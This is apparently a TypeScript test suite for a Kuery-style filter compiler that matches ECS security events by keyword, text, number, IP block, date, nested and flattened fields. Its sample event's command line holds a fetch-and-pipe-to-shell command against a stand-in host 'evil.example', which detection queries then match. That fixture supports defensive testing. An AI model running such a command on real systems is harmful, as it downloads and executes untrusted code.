import { describe, expect, test } from 'vitest'
import type { JsonObject } from '#base'
import { ecsCatalogue, withMappings } from '#event'
import { kuery } from '../kuery/kuery.ts'
import type { FilterPlan } from '../plan/filter-plan.ts'
import { compileFilter } from './compile.ts'
import { evaluateFilter } from './evaluate.ts'

const fields = withMappings(ecsCatalogue(), {
  entropy: 'float',
  big: 'unsigned_long',
  flags: 'flattened',
  steps: 'nested',
  'steps.name': 'keyword',
  'steps.took': 'long',
  short: { type: 'keyword', ignore_above: 4 },
})
const context = { fields, nowMs: Date.parse('2024-06-15T12:00:00Z') }

const event: JsonObject = {
  '@timestamp': '2024-06-15T11:30:00.000Z',
  'host.os.type': 'linux',
  event: { category: ['process'], code: 4624, type: ['start', null], created: 1718451000000 },
  process: {
    name: 'Bash',
    executable: '/usr/bin/bash',
    command_line: 'bash -c "curl http://evil.example/x | sh"\nwait',
    args: ['bash', '-c', 'curl *'],
    args_count: 3,
    pid: '42',
    interactive: 'true',
    parent: { name: 'sshd', args: [] },
    title: null,
  },
  source: { ip: ['10.1.2.3', '2001:db8::5', 'not an address'] },
  message: "An Error occurred: user_1's file foo.bar v1.2.3 — naïve 東京",
  user: { name: '', id: '0' },
  custom: {
    text: 'Some Thing',
    number: 7,
    flag: false,
    list: [
      { a: 1, b: 2 },
      { a: 3, b: 4 },
    ],
  },
  entropy: 0.1,
  big: '18446744073709551615',
  flags: { a: { b: 'x' }, c: 5 },
  steps: [
    { name: 'fetch', took: 1 },
    { name: 'run', took: 20 },
  ],
  short: ['toolong', 'ok'],
}

function matches(query: string, source = event): boolean {
  const plan = kuery.parse(query)
  if (!plan.ok) throw new Error(plan.error[0]?.message)
  return matchesPlan(plan.value, source)
}

function matchesPlan(plan: FilterPlan, source = event): boolean {
  const fast = compileFilter(plan, context)(source)
  expect(evaluateFilter(plan, source, context)).toBe(fast)
  return fast
}

describe.each<[string, readonly string[], readonly string[]]>([
  [
    'keywords are whole values, case-sensitive',
    ['process.name:Bash', 'process.name:B*h', 'process.name:"Bash"', 'host.os.type:linux'],
    [
      'process.name:bash',
      'process.name:Bas',
      'process.name:B?sh',
      'process.name:"B*"',
      'process.name:b*',
    ],
  ],
  [
    'a keyword holds numbers as text',
    ['event.code:4624', 'event.code:"4624"', 'event.code:46*'],
    ['event.code:04624', 'event.code:4624.0'],
  ],
  [
    'caseless multi-fields fold both sides',
    ['process.name.caseless:bASH', 'process.name.caseless:BA*', 'process.name.caseless:*'],
    ['process.name.caseless:bas', 'process.parent.title.caseless:*'],
  ],
  [
    'text is compared word by word',
    [
      'message:error',
      'message:(file or nothing)',
      'message:nothing error',
      'message:"error OCCURRED"',
      'message:occ*',
      "message:user_1's",
      'message:"foo.bar"',
      'message:v1.2.3',
      'message:naïve',
      'message:東',
      'message:"東京"',
      'message:zzz* err*',
      'message:xxx* error',
      'process.name.text:bash',
    ],
    [
      'message:"occurred error"',
      'message:err',
      'message:"err*"',
      'message:foo',
      'message:" "',
      'message:An*occurred',
      'message:京都*',
    ],
  ],
  [
    'a wildcard field is compared as a whole, over line breaks',
    [
      'process.command_line:bash*wait',
      'process.command_line:*curl http*',
      'process.command_line:*EVIL* or process.command_line.text:EVIL.EXAMPLE',
    ],
    ['process.command_line:curl', 'process.command_line:*Curl*'],
  ],
  [
    'numbers compare by value, whichever way they are written',
    [
      'process.pid:42',
      'process.pid:"42.0"',
      'process.pid >= 42',
      'process.args_count < 3.5',
      'entropy:0.1',
      'entropy:(.1)',
      'big:18446744073709551615',
      'big > 18446744073709551614',
      'custom.number:7.0',
      'custom.number >= 7',
      'custom.number:"7"',
    ],
    [
      'process.pid:4',
      'process.pid > 42',
      'process.args_count:3.5',
      'process.args_count:x',
      'big:18446744073709551614',
      'process.args_count:3*',
      'custom.number:7*',
      'entropy > 0.1',
    ],
  ],
  [
    'booleans may be strings on either side',
    [
      'process.interactive:true',
      'process.interactive:"true"',
      'custom.flag:false',
      'custom.flag:"false"',
      'not custom.flag:true',
    ],
    ['process.interactive:false', 'process.interactive:yes', 'process.interactive:t*'],
  ],
  [
    'addresses compare by value and by block',
    [
      'source.ip:10.1.2.3',
      'source.ip:10.0.0.0/8',
      'source.ip:"10.1.0.0/16"',
      'source.ip:2001\\:db8\\:\\:/32',
      'source.ip:"2001:db8:0:0::5"',
      'source.ip:"::ffff:10.1.2.3"',
      'source.ip >= 10.1.2.3',
      'source.ip < "10.1.2.4"',
      'source.ip:"::/0"',
      'source.ip:*',
    ],
    [
      'source.ip:10.1.2.4',
      'source.ip:11.0.0.0/8',
      'source.ip:10.1.2',
      'source.ip:10.*',
      'source.ip:10.0.0.0/33',
      'source.ip:"::1"',
    ],
  ],
  [
    'a date that names a whole unit means all of it',
    [
      '@timestamp:2024-06-15',
      '@timestamp:"2024-06-15T11:30"',
      '@timestamp <= 2024-06-15',
      '@timestamp >= 2024-06-15',
      '@timestamp > 2024-06-14',
      '@timestamp >= now-30m',
      '@timestamp < now',
      '@timestamp >= now/d',
      '@timestamp <= now/d',
      '@timestamp:2024',
      'event.created:2024-06-15',
      '@timestamp:"2024-06-14||+1d/d"',
      '@timestamp:1718451000000',
    ],
    [
      '@timestamp > 2024-06-15',
      '@timestamp < 2024-06-15',
      '@timestamp < now/d',
      '@timestamp >= now-29m',
      '@timestamp:2024-06-14',
      '@timestamp:2024*',
      '@timestamp:soon',
    ],
  ],
  [
    'each condition finds its own element of an array, and a negation wants none',
    [
      'process.args:(bash and -c)',
      'custom.list.a:1 and custom.list.b:4',
      'not process.args:zsh',
      'process.args:(not zsh)',
    ],
    ['process.args:(bash and zsh)', 'not process.args:bash', 'process.args:(not bash)'],
  ],
  [
    'missing, null and empty arrays do not exist; an empty string does',
    [
      'user.name:*',
      'user.name:""',
      'event.type:*',
      'not process.title:*',
      'not process.title:x',
      'process.hash.sha256:x or not process.hash.*:*',
    ],
    [
      'process.title:*',
      'process.parent.args:*',
      'process.missing:*',
      'process.title:x',
      'process.parent.args:x',
    ],
  ],
  [
    'values longer than ignore_above are not there',
    ['short:ok', 'short:*'],
    ['short:toolong', 'short:too*'],
  ],
  [
    'flattened fields are asked by key or as a whole',
    ['flags.a.b:x', 'flags:x', 'flags.c:5', 'flags:5', 'flags:*', 'flags.a.*:x', 'flags.c >= 4'],
    ['flags.a:x', 'flags:y', 'flags.c:05'],
  ],
  [
    'nested conditions hold for one and the same object, seen only from inside',
    [
      'steps:{ name:fetch and took:1 }',
      'steps:{ name:fetch } and steps:{ took:20 }',
      'not steps:{ name:fetch and took:20 }',
      'steps:{ took > 5 and not name:fetch }',
      'steps:{ * }',
      'steps:{ n*:run }',
      'steps:{ run }',
      's*.name:run',
    ],
    [
      'steps:{ name:fetch and took:20 }',
      'steps.name:fetch',
      'steps.name:*',
      'steps:*',
      'steps:fetch',
      'fetch',
    ],
  ],
  [
    'an array of objects that nobody called nested may be asked either way',
    ['custom.list:{ a:1 and b:2 }'],
    ['custom.list:{ a:1 and b:4 }'],
  ],
  [
    'field patterns mean all fields that match',
    [
      '*.name:sshd',
      'process.parent.*:sshd',
      'custom.*:7',
      '*:linux',
      'event.c*:4624',
      'process.*:*',
      'process.n*.caseless:BASH',
    ],
    ['process.parent.*:Bash', '*.nothing:*', 'process.n*:bash', '*:nothing'],
  ],
  [
    'without a field every field is searched by its own type',
    [
      'sshd',
      '"Some Thing"',
      '4624',
      'true',
      '10.1.2.0/24',
      '2024-06-15',
      'error',
      '"occurred user_1\'s"',
      '*evil*',
      'nowhere* linux',
      'Some*',
    ],
    ['sshD', 'nothing', 'Thing', 'some*thing', 'Some Thing Else'],
  ],
  [
    'objects exist when something in them does',
    ['process:*', 'process.parent:*', 'custom.list:*', 'host:*', 'host.os:*'],
    ['process.hash:*', 'process:x'],
  ],
])('%s', (_behaviour, yes, no) => {
  test.each(yes)('%s matches', (query) => expect(matches(query)).toBe(true))
  test.each(no)('%s does not match', (query) => expect(matches(query)).toBe(false))
})

test('keywords are ordered by code point, so letters beyond the basic plane come last', () => {
  const later = { custom: { text: '\u{1f600}' } }
  expect(matches('custom.text > \uffee', later)).toBe(true)
  expect(matches('custom.text < \uffee', later)).toBe(false)
})

test('caseless leaves fold case on both sides', () => {
  const field = { kind: 'field', name: 'process.executable' } as const
  const literal = { value: '/USR/bin/BASH', quoted: true }
  expect(matchesPlan({ kind: 'match', field, literal, caseless: true })).toBe(true)
  expect(matchesPlan({ kind: 'match', field, literal })).toBe(false)
  const glob = [{ kind: 'any-one' }, { kind: 'literal', text: 'USR' }, { kind: 'any-run' }] as const
  expect(matchesPlan({ kind: 'glob', field, glob, caseless: true })).toBe(true)
  expect(matchesPlan({ kind: 'glob', field, glob })).toBe(false)
})

test('a list matches by any of its values and passes over those the type cannot hold', () => {
  const anyOf = (name: string, values: readonly (string | number | boolean)[]): FilterPlan => ({
    kind: 'match-any',
    field: { kind: 'field', name },
    values,
  })
  expect(matchesPlan(anyOf('source.ip', ['nonsense', '10.0.0.0/8']))).toBe(true)
  expect(matchesPlan(anyOf('source.ip', ['10.1.2.3']))).toBe(true)
  expect(matchesPlan(anyOf('process.pid', ['x', 42]))).toBe(true)
  expect(matchesPlan(anyOf('custom.number', ['x', true, '7']))).toBe(true)
  expect(matchesPlan(anyOf('@timestamp', ['2024-06-15', 'x']))).toBe(true)
  expect(matchesPlan(anyOf('message', ['error occurred']))).toBe(true)
  expect(matchesPlan(anyOf('process.name', ['bash']))).toBe(false)
  expect(matchesPlan(anyOf('process.name', []))).toBe(false)
  expect(matchesPlan(anyOf('process.pid', ['x']))).toBe(false)
})

test('events of any shape are matched without a throw', () => {
  let deep: JsonObject = { a: 'x' }
  for (let i = 0; i < 50_000; i++) deep = { a: [deep] }
  for (const query of ['a:x', 'a:*', '*:x', 'x', 'a:{ a:x }', 'a.a.a.a:*', 'not a:x']) {
    expect(() => matches(query, deep)).not.toThrow()
  }
})
